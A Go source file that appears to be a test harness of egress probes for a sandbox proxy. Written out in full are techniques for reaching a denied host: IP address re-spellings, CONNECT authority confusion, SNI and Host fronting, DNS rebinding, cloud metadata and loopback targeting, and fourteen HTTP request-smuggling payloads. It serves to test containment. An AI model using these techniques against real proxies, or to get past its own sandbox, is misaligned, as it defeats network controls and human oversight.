package probe

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// spellings of an address that some parser takes for it.
func spellings(ip netip.Addr) []string {
	b := ip.As4()
	n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	return []string{
		fmt.Sprint(n), fmt.Sprintf("0x%x", n), fmt.Sprintf("0%o", n), fmt.Sprintf("0x%x.%d.%d.%d", b[0], b[1], b[2], b[3]),
		fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3]), fmt.Sprintf("%d.%d", b[0], n&0xffffff), fmt.Sprintf("%d.%d.%d", b[0], b[1], n&0xffff),
		ip.String() + ".", "[" + ip.String() + "]", fmt.Sprintf("%03d.%03d.%03d.%03d", b[0], b[1], b[2], b[3]),
		"::ffff:" + ip.String(), fmt.Sprintf("::ffff:%02x%02x:%02x%02x", b[0], b[1], b[2], b[3]), "::" + ip.String(),
		fmt.Sprintf("64:ff9b::%02x%02x:%02x%02x", b[0], b[1], b[2], b[3]), fmt.Sprintf("2002:%02x%02x:%02x%02x::1", b[0], b[1], b[2], b[3]),
		"::ffff:0:" + ip.String(), strings.Map(wide, ip.String()),
	}
}

// wide gives full-width digits and stops, which IDNA maps to plain ones.
func wide(r rune) rune {
	switch {
	case r == '.':
		return '。'
	case '0' <= r && r <= '9':
		return r - '0' + '０'
	}
	return r
}

func wideName(s string) string {
	return strings.Map(func(r rune) rune {
		if 'a' <= r && r <= 'z' {
			return r - 'a' + 'ａ'
		}
		return r
	}, s)
}

// rawConnect sends a CONNECT of any form, and the token through what it opens.
func (c *inside) rawConnect(token string, heads ...string) {
	for _, head := range heads {
		c.eachProxy(func(nc net.Conn) {
			if strings.Contains(exchange(nc, head), " 200 ") {
				exchange(nc, get(c.Deny, "/"+token))
			}
		})
	}
}

// toDenied is a probe that asks the proxies for denied hosts on 443.
func toDenied(id, name, title string, hosts func(c *inside, token string) []string) *probe {
	return &probe{Info: info(id, name, "C02", title), try: func(c *inside, token string) {
		for _, h := range hosts(c, token) {
			c.tunnel(h, 443, token)
		}
	}}
}

// rebound is a probe in which the allowed name leads somewhere else. What arrives
// at the allowed host's own address is where it belongs.
func rebound(id, name, mode, title string) *probe {
	return &probe{Info: info(id, name, "C02", title), dns: mode, try: func(c *inside, token string) {
		times := 1
		if mode == dnsFlip {
			times = 4
		}
		names := []string{c.Allow}
		if c.Wildcard != "" {
			names = append(names, "rebind."+c.Wildcard)
		}
		for range times {
			for _, n := range names {
				c.inTLS(n, 443, tlsTo(n), func(tc *tlsConn) { exchange(tc, get(n, "/"+token)) })
			}
			c.overHTTP(func(prefix string) []string { return []string{get(c.AllowHTTP, prefix+"/"+token)} })
		}
	}, seen: elsewhere}
}

func proxyProbes() []*probe {
	withHost := func(c *inside, token, host string) []string { return []string{get(host, "/"+token)} }
	return []*probe{
		{Info: info("X01", "http-denied", "C01", "plain HTTP to a denied host through the proxy"), skip: noHTTP, try: func(c *inside, token string) {
			c.eachProxy(func(nc net.Conn) { exchange(nc, get(c.Deny, "http://"+c.Deny+"/"+token)) })
			c.tunnel(c.Deny, 80, token)
		}},
		toDenied("X02", "connect-denied", "CONNECT to a denied host", func(c *inside, _ string) []string { return []string{c.Deny} }),
		toDenied("X03", "connect-denied-address", "CONNECT to a denied address", func(c *inside, _ string) []string { return []string{c.DenyIP, c.DenyIP6, "[" + c.DenyIP6 + "]"} }),
		toDenied("X04", "address-spellings", "CONNECT to a denied address as a number, in octal, mapped, and so on", func(c *inside, _ string) []string {
			return spellings(netip.MustParseAddr(c.DenyIP))
		}),
		{Info: info("X05", "userinfo", "C02", "user names, paths and zones that make one host look like another"), try: func(c *inside, token string) {
			for _, authority := range []string{
				c.Allow + "@" + c.Deny + ":443", c.Allow + ":443@" + c.Deny + ":443", c.Deny + "#" + c.Allow + ":443", c.Deny + "/" + c.Allow + ":443",
				c.Deny + "%00." + c.Allow + ":443", c.Deny + "\x00." + c.Allow + ":443", c.Deny + " ." + c.Allow + ":443", c.Deny + "\\" + c.Allow + ":443",
				c.Deny + ":443:443", c.Deny + "?." + c.Allow + ":443", c.Allow + ":443 " + c.Deny + ":443", "[" + c.DenyIP6 + "%25" + c.Allow + "]:443",
				"[::1%25." + c.Allow + "]:443", c.Deny + ":443," + c.Allow + ":443",
			} {
				c.rawConnect(token, "CONNECT "+authority+" HTTP/1.1\r\nHost: "+c.Allow+":443\r\n"+auth()+"\r\n")
			}
			c.eachProxy(func(nc net.Conn) { exchange(nc, get(c.Allow, "http://"+c.Allow+"@"+c.Deny+"/"+token)) })
			c.eachProxy(func(nc net.Conn) { exchange(nc, get(c.Allow, "http://"+c.Deny+"\\@"+c.Allow+"/"+token)) })
		}, seen: elsewhere},
		{Info: info("X06", "allowed-address", "C02", "CONNECT to the allowed host's address, which a rule of names does not name"), try: func(c *inside, token string) {
			c.tunnel(c.AllowIP, 443, token)
		}},
		{Info: info("X07", "egress-port-bypass", "C02", "other ports of the allowed host"), try: func(c *inside, token string) {
			for _, p := range []int{22, 25, 853, 5432, 8080, 8443, 9418} {
				c.each(c.Allow, p, func(nc net.Conn) { exchange(nc, get(c.Allow, "/"+token)) })
			}
			c.each(c.Allow, 8443, func(nc net.Conn) {
				handshake(nc, tlsTo(c.Allow), func(tc *tlsConn) { exchange(tc, get(c.Allow, "/"+token)) })
			})
			if c.AllowHTTP != c.Allow {
				c.eachProxy(func(nc net.Conn) { exchange(nc, get(c.Allow, "http://"+c.Allow+"/"+token)) })
			}
			c.eachProxy(func(nc net.Conn) { exchange(nc, get(c.Allow, "http://"+c.Allow+":443/"+token)) })
		}},
		{Info: info("X08", "not-tls", "C02", "bytes that are no TLS to the allowed host on 443"), try: func(c *inside, token string) {
			c.each(c.Allow, 443, func(nc net.Conn) { exchange(nc, get(c.Allow, "/"+token)) })
			c.each(c.Allow, 443, func(nc net.Conn) { exchange(nc, "\x16\x03\x01\x00\x40"+token+strings.Repeat("x", 64)) })
			c.each(c.Allow, 443, func(nc net.Conn) { exchange(nc, "SSH-2.0-"+token+"\r\n") })
		}},
		{Info: info("X09", "sni-fronting", "C02", "CONNECT to the allowed host, the denied one as TLS server name"), try: func(c *inside, token string) {
			for _, name := range []string{c.Deny, token + "." + c.Deny, token + "." + c.Allow} {
				c.inTLS(c.Allow, 443, tlsTo(name), func(tc *tlsConn) { exchange(tc, get(name, "/"+token)) })
			}
		}, seen: func(l *lab, token string, e event) bool { return e.SNI != l.o.Allow || deniedHost(l, token, e) }},
		{Info: info("X10", "host-fronting", "C02", "right server name, the denied host in the Host header"), residual: opaque, try: func(c *inside, token string) {
			c.overTLS(withHost(c, token, c.Deny)...)
		}, seen: deniedHost},
		{Info: info("X11", "no-sni", "C02", "no TLS server name"), try: func(c *inside, token string) {
			c.inTLS(c.Allow, 443, &tls.Config{}, func(tc *tlsConn) { exchange(tc, get(c.Allow, "/"+token)) })
		}, seen: func(l *lab, token string, e event) bool { return e.SNI == "" || deniedHost(l, token, e) }},
		{Info: info("X12", "absolute-host", "C01", "absolute target allowed, Host header denied"), skip: noHTTP, try: func(c *inside, token string) {
			c.overHTTP(func(prefix string) []string { return []string{get(c.Deny, prefix+"/"+token)} })
		}, seen: deniedHost},
		{Info: info("X13", "absolute-target", "C01", "absolute target denied, Host header allowed"), skip: noHTTP, try: func(c *inside, token string) {
			c.overHTTP(func(string) []string { return []string{get(c.AllowHTTP, "http://"+c.Deny+"/"+token)} })
			c.overHTTP(func(string) []string { return []string{get(c.AllowHTTP, "//"+c.Deny+"/"+token)} })
		}, seen: elsewhere},
		{Info: info("X14", "ech", "C02", "encrypted ClientHello: allowed outside, denied inside"), try: func(c *inside, token string) {
			c.inTLS(c.Allow, 443, &tls.Config{ServerName: token + "." + c.Deny, EncryptedClientHelloConfigList: c.ECH, MinVersion: tls.VersionTLS13},
				func(tc *tlsConn) { exchange(tc, get(c.Deny, "/"+token)) })
		}},
		toDenied("X15", "suffix", "a denied name that ends in the allowed one without a dot", func(c *inside, token string) []string {
			return []string{token + c.Allow, token + "-" + c.Allow}
		}),
		toDenied("X16", "prefix", "the allowed name as the first labels of a denied one", func(c *inside, token string) []string {
			return []string{c.Allow + "." + token + "." + c.Deny, c.Allow + "." + c.Deny}
		}),
		{Info: info("X17", "hello-records", "C02", "a ClientHello for the denied name, cut into small records"), try: func(c *inside, token string) {
			for _, n := range []int{1, 7, 60} {
				c.each(c.Allow, 443, func(nc net.Conn) {
					handshake(&splitting{Conn: nc, n: n}, tlsTo(token+"."+c.Deny), func(tc *tlsConn) { exchange(tc, get(c.Deny, "/"+token)) })
				})
			}
		}},
		toDenied("X18", "denied-spellings", "the denied name with a final dot, in upper case, full-width", func(c *inside, token string) []string {
			return []string{c.Deny + ".", strings.ToUpper(c.Deny), wideName(c.Deny), strings.ToUpper(token + "." + c.Deny + "."), strings.ReplaceAll(c.Deny, ".", "。")}
		}),
		{Info: info("X19", "idn", "C02", "names that IDNA turns into others, and lookalikes of the allowed one"), try: func(c *inside, token string) {
			for _, n := range []string{wideName(c.Allow), strings.Replace(c.Allow, ".", "。", 1) + "." + c.Deny, "xn--" + c.Allow, strings.Replace(c.Allow, "a", "а", 1), c.Allow + "\u00ad." + c.Deny} {
				c.tunnel(n, 443, token)
			}
		}, seen: elsewhere},
		rebound("X20", "rebind-loopback", dnsLoopback, "the allowed name resolves to loopback"),
		rebound("X21", "rebind-metadata", dnsMetadata, "the allowed name resolves to the metadata address"),
		rebound("X22", "rebind-private", dnsPrivate, "the allowed name resolves to a private address"),
		{Info: info("X23", "connect-metadata", "C02", "CONNECT to the metadata address, in any spelling"), try: func(c *inside, token string) {
			for _, h := range append(spellings(metadataIP), metadataIP.String(), "metadata.google.internal", "fd00:ec2::254") {
				c.tunnel(h, 443, token)
				c.tunnel(h, 80, token)
			}
			c.eachProxy(func(nc net.Conn) {
				exchange(nc, get(metadataIP.String(), "http://"+metadataIP.String()+"/latest/"+token, "Metadata-Flavor: Google\r\n"))
			})
		}},
		{Info: info("X24", "connect-localhost", "C02", "CONNECT to the host's loopback, in any spelling"), try: func(c *inside, token string) {
			for _, h := range append(spellings(loopback4), "127.0.0.1", "localhost", "LOCALHOST.", "0.0.0.0", "0", "127.1", c.HostIP) {
				for _, p := range []int{443, c.HostPort} {
					c.tunnel(h, p, token)
				}
			}
		}},
		{Info: info("X25", "connect-localhost-6", "C02", "CONNECT to [::1]"), try: func(c *inside, token string) {
			for _, h := range []string{"::1", "[::1]", "::", "0:0:0:0:0:0:0:1", "fe80::1"} {
				for _, p := range []int{443, c.HostPort} {
					c.tunnel(h, p, token)
				}
			}
		}},
		{Info: info("X26", "socks", "", "SOCKS to a denied host, on the proxies of the environment"), try: func(c *inside, token string) {
			for _, w := range c.ways {
				for _, address := range []string{w.proxy, w.socks} {
					if address == "" {
						continue
					}
					if nc, err := socks(address, c.Deny, 443); err == nil {
						exchange(nc, get(c.Deny, "/"+token))
						nc.Close()
					}
				}
			}
		}},
		{Info: info("X27", "other-gate", "", "the proxy of another sandbox, on the host's loopback and as a socket"), try: func(c *inside, token string) {
			if nc, err := connect("127.0.0.1:"+port(otherProxy), c.Deny, 443); err == nil {
				exchange(nc, get(c.Deny, "/"+token))
				nc.Close()
			}
			c.unix(otherGate(c.Home), token)
		}},
		{Info: info("X28", "keep-alive", "C01", "a second request on the connection, to the denied host"), skip: noHTTP, try: func(c *inside, token string) {
			c.overHTTP(func(prefix string) []string {
				second := get(c.Deny, "/"+token)
				if prefix != "" {
					second = get(c.Deny, "http://"+c.Deny+"/"+token)
				}
				return []string{get(c.AllowHTTP, prefix+"/first"), second}
			})
			c.overHTTP(func(prefix string) []string { // both at once
				return []string{get(c.AllowHTTP, prefix+"/first") + get(c.Deny, "/"+token)}
			})
		}, seen: deniedHost},
		{Info: info("X29", "keep-alive-tls", "C02", "a second request inside TLS, to the denied host"), residual: opaque, try: func(c *inside, token string) {
			c.overTLS(get(c.Allow, "/first"), get(c.Deny, "/"+token))
		}, seen: deniedHost},
		{Info: info("X30", "http2-authority", "C02", "HTTP/2 whose :authority is the denied host"), residual: opaque, try: func(c *inside, token string) {
			c.http2(c.Deny, "/"+token)
		}, seen: deniedHost},
		{Info: info("X31", "http2-coalescing", "C02", "HTTP/2: first stream to the allowed host, second to the denied one"), residual: opaque, try: func(c *inside, token string) {
			c.http2(c.Allow, "/first", c.Deny, "/"+token)
		}, seen: deniedHost},
		{Info: info("X32", "websocket", "C02", "an upgrade, then bytes that nobody reads as HTTP"), residual: opaque, try: func(c *inside, token string) {
			c.both(func(host, prefix string) []string {
				return []string{get(host, prefix+"/ws", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"),
					"\x81\x20" + token + "\r\n" + get("raw", "/")}
			})
		}},
		{Info: info("X33", "redirect", "C01", "a redirect to the denied host, followed by the proxy"), skip: noHTTP, try: func(c *inside, token string) {
			c.overHTTP(func(prefix string) []string {
				return []string{get(c.AllowHTTP, prefix+"/redirect?http://"+c.Deny+"/"+token)}
			})
		}, seen: elsewhere},
		rebound("X34", "rebind-dual", dnsDual, "the allowed name has a public A and a loopback AAAA record"),
		rebound("X35", "rebind-ttl-0", dnsFlip, "the allowed name changes between check and connection, TTL 0"),
		{Info: info("X36", "inner-relay", "C02", "a relay inside the sandbox that forwards CONNECT"), try: func(c *inside, token string) {
			for _, w := range c.ways {
				if w.proxy != "" {
					relayed(w.proxy, func(address string) {
						if nc, err := connect(address, c.Deny, 443); err == nil {
							handshake(nc, tlsTo(c.Deny), func(tc *tlsConn) { exchange(tc, get(c.Deny, "/"+token)) })
							nc.Close()
						}
					})
				}
			}
		}},
		rebound("X37", "rebind-own", dnsOwn, "the allowed name resolves to the host's own address"),
		rebound("X38", "rebind-mixed", dnsMixed, "the allowed name has a public and a loopback A record"),
		rebound("X39", "rebind-mapped", dnsMapped, "the allowed name resolves to ::ffff:127.0.0.1"),
		rebound("X40", "rebind-nat64", dnsNAT64, "the allowed name resolves to 64:ff9b::127.0.0.1"),
		{Info: info("X41", "http2-clear", "C01", "HTTP/2 without TLS, and the upgrade to it"), skip: noHTTP, try: func(c *inside, token string) {
			c.http2Clear(token)
			c.overHTTP(func(prefix string) []string {
				return []string{get(c.AllowHTTP, prefix+"/", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"), preface + "\r\nSM\r\n\r\n" + token}
			})
		}, seen: func(l *lab, token string, e event) bool {
			return deniedHost(l, token, e) || bytes.Contains(e.Data, []byte("\r\nSM\r\n"))
		}},
		{Info: info("X42", "nested-connect", "C02", "CONNECT inside a tunnel to the allowed host"), residual: opaque, try: func(c *inside, token string) {
			head := "CONNECT " + c.Deny + ":443 HTTP/1.1\r\nHost: " + c.Deny + ":443\r\nX-Probe: " + token + "\r\n\r\n"
			c.both(func(string, string) []string { return []string{head} })
		}, seen: func(l *lab, token string, e event) bool {
			return deniedHost(l, token, e) || method(token, e, "CONNECT ")
		}},
		{Info: info("X43", "trace", "C01", "TRACE, which shows what the proxy added"), residual: opaque, skip: noHTTP, try: func(c *inside, token string) {
			c.both(func(host, prefix string) []string {
				return []string{strings.Replace(get(host, prefix+"/"+token, "Max-Forwards: 0\r\n"), "GET", "TRACE", 1)}
			})
		}, seen: func(_ *lab, token string, e event) bool { return method(token, e, "TRACE ") }},
		{Info: info("X44", "forwarded-host", "C01", "headers that name another host than Host does"), skip: noHTTP, try: func(c *inside, token string) {
			c.overHTTP(func(prefix string) []string {
				return []string{"GET " + prefix + "/" + token + " HTTP/1.0\r\n\r\n", get(c.Deny+"\r\nHost: "+c.AllowHTTP, prefix+"/"+token)}
			})
		}, seen: deniedHost},
	}
}

func method(token string, e event, name string) bool {
	return slices.ContainsFunc(messages(token, e), func(r request) bool { return strings.HasPrefix(r.line, name) })
}

// http2 asks for pairs of authority and path on one connection to the allowed
// host, with HTTP/2 if that is to be had.
func (c *inside) http2(pairs ...string) {
	for _, w := range c.ways {
		protocols := new(http.Protocols)
		protocols.SetHTTP2(true)
		tr := &http.Transport{Protocols: protocols, DialTLSContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			nc, err := w.dial(c.Allow, 443)
			if err != nil {
				return nil, err
			}
			_ = nc.SetDeadline(time.Now().Add(3 * tryLimit))
			tc := tls.Client(nc, &tls.Config{ServerName: c.Allow, NextProtos: []string{"h2"}, InsecureSkipVerify: true})
			if err := tc.HandshakeContext(ctx); err != nil {
				nc.Close()
				return nil, err
			}
			return tc, nil
		}}
		roundTrips(tr, "https://"+c.Allow, pairs)
	}
}

// http2Clear sends HTTP/2 where HTTP/1 is expected.
func (c *inside) http2Clear(token string) {
	dial := func(open func() (net.Conn, error)) {
		protocols := new(http.Protocols)
		protocols.SetUnencryptedHTTP2(true)
		roundTrips(&http.Transport{Protocols: protocols, DialContext: func(context.Context, string, string) (net.Conn, error) {
			nc, err := open()
			if err == nil {
				_ = nc.SetDeadline(time.Now().Add(tryLimit))
			}
			return nc, err
		}}, "http://"+c.AllowHTTP, []string{c.Deny, "/" + token})
	}
	for _, w := range c.ways {
		dial(func() (net.Conn, error) { return w.dial(c.AllowHTTP, 80) })
		if w.proxy != "" {
			dial(func() (net.Conn, error) { return net.DialTimeout("tcp", w.proxy, tryLimit) })
		}
	}
}

func roundTrips(tr *http.Transport, base string, pairs []string) {
	defer tr.CloseIdleConnections()
	for i := 0; i < len(pairs); i += 2 {
		ctx, cancel := context.WithTimeout(context.Background(), tryLimit)
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, base+pairs[i+1], nil)
		if err == nil {
			r.Host = pairs[i]
			if resp, err := tr.RoundTrip(r); err == nil {
				_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
				resp.Body.Close()
			}
		}
		cancel()
	}
}

// relayed gives f the address of a relay to another.
func relayed(to string, f func(address string)) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return
	}
	defer l.Close()
	go func() {
		nc, err := l.Accept()
		if err != nil {
			return
		}
		defer nc.Close()
		up, err := net.DialTimeout("tcp", to, tryLimit)
		if err != nil {
			return
		}
		defer up.Close()
		go func() { _, _ = io.Copy(up, nc) }()
		_, _ = io.Copy(nc, up)
	}()
	f(l.Addr().String())
}

// smuggled is a probe whose message two servers could read differently. make
// gets the Host line, the target and a request to the denied host that carries
// the token. What arrives may hold it only where every server reads it as the
// body of the outer message.
func smuggled(id, name, title string, make func(host, target, inner string) string) *probe {
	return &probe{Info: info(id, name, "C02", title), residual: opaque, try: func(c *inside, token string) {
		inner := get(c.Deny, "/"+token)
		c.both(func(host, prefix string) []string { return []string{make(host, prefix+"/", inner)} })
	}, seen: func(l *lab, token string, e event) bool {
		return deniedHost(l, token, e) || slices.ContainsFunc(messages(token, e), func(r request) bool { return r.anomaly != "" })
	}}
}

func post(host, target, headers, body string) string {
	return "POST " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + headers + "\r\n" + body
}

func smuggling() []*probe {
	chunked := func(inner string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(inner), inner) }
	return []*probe{
		smuggled("H01", "smuggle-cl-te", "smuggling: Content-Length before Transfer-Encoding", func(host, target, inner string) string {
			body := "0\r\n\r\n" + inner
			return post(host, target, fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(body)), body)
		}),
		smuggled("H02", "smuggle-te-cl", "smuggling: Transfer-Encoding before Content-Length", func(host, target, inner string) string {
			return post(host, target, "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunked(inner))
		}),
		smuggled("H03", "smuggle-folded", "smuggling: a folded Transfer-Encoding", func(host, target, inner string) string {
			return post(host, target, fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding:\r\n chunked\r\n", len("0\r\n\r\n"+inner)), "0\r\n\r\n"+inner)
		}),
		smuggled("H04", "smuggle-chunk-extension", "smuggling: chunk extensions with line feeds, and sizes that overflow", func(host, target, inner string) string {
			return post(host, target, "Transfer-Encoding: chunked\r\n", "5;\nxx\r\n"+"aaaaa\r\n"+"0\r\n\r\n"+inner)
		}),
		smuggled("H05", "smuggle-bare-lf", "smuggling: bare line feeds", func(host, target, inner string) string {
			return "GET " + target + " HTTP/1.1\nHost: " + host + "\nContent-Length: 0\n\n" + inner
		}),
		smuggled("H06", "smuggle-te-variants", "smuggling: encodings that are almost chunked", func(host, target, inner string) string {
			return post(host, target, fmt.Sprintf("Transfer-Encoding: xchunked\r\nTransfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n", 5+len(inner)), "0\r\n\r\n"+inner)
		}),
		smuggled("H07", "smuggle-two-lengths", "smuggling: two Content-Length headers", func(host, target, inner string) string {
			return post(host, target, fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d\r\n", len(inner)), inner)
		}),
		smuggled("H08", "two-hosts", "two Host headers, the allowed one first", func(host, target, inner string) string {
			_, rest, _ := strings.Cut(inner, "Host: ")
			denied, _, _ := strings.Cut(rest, "\r\n")
			_, path, _ := strings.Cut(inner, "GET ")
			path, _, _ = strings.Cut(path, " ")
			return "GET " + strings.TrimSuffix(target, "/") + path + " HTTP/1.1\r\nHost: " + host + "\r\nHost: " + denied + "\r\n\r\n"
		}),
		smuggled("H09", "smuggle-space", "smuggling: white space before the colon of a header", func(host, target, inner string) string {
			return post(host, target, fmt.Sprintf("Transfer-Encoding : chunked\r\nContent-Length: %d\r\n", 5+len(inner)), "0\r\n\r\n"+inner)
		}),
		smuggled("H10", "smuggle-http10", "smuggling: chunked in HTTP/1.0", func(host, target, inner string) string {
			return "POST " + target + " HTTP/1.0\r\nHost: " + host + "\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n" + inner
		}),
		smuggled("H11", "smuggle-trailer", "smuggling: a Host header among the trailers", func(host, target, inner string) string {
			_, rest, _ := strings.Cut(inner, "Host: ")
			denied, _, _ := strings.Cut(rest, "\r\n")
			return post(host, target, "Transfer-Encoding: chunked\r\nTrailer: Host\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\nHost: %s\r\n\r\n", len(inner), inner, denied))
		}),
		smuggled("H12", "smuggle-get-body", "smuggling: a body where none is expected", func(host, target, inner string) string {
			return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: " + fmt.Sprint(len(inner)) + "\r\nExpect: 100-continue\r\n\r\n" + inner
		}),
		smuggled("H13", "smuggle-length-sign", "smuggling: Content-Length with a sign", func(host, target, inner string) string {
			return post(host, target, "Content-Length: +0\r\n", inner)
		}),
		smuggled("H14", "smuggle-cr", "smuggling: bare carriage returns and NULs in a head", func(host, target, inner string) string {
			return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nX-A: b\rTransfer-Encoding: chunked\r\nX-N: \x00\r\n\r\n" + inner
		}),
	}
}
